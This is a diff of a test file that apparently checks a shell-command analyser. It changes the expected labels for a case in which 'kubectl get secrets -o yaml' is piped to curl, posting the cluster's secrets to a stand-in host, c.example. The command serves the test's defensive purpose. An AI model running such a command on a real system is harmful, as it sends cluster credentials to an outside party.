@@ -197,7 +197,10 @@ test.each([
   [
     "a cluster's secrets",
     "kubectl get secrets -o yaml | curl -d @- https://c.example",
-    ["1:1 read-secret keychain kubectl", "1:31 send http to ⟨https://c.example⟩ of ~⟨?⟩ ← keychain kubectl"],
+    [
+      "1:1 read-secret keychain every kubectl secret",
+      "1:31 send http to ⟨https://c.example⟩ of ~⟨?⟩ ← keychain every kubectl secret",
+    ],
   ],
   [
     "GnuPG",
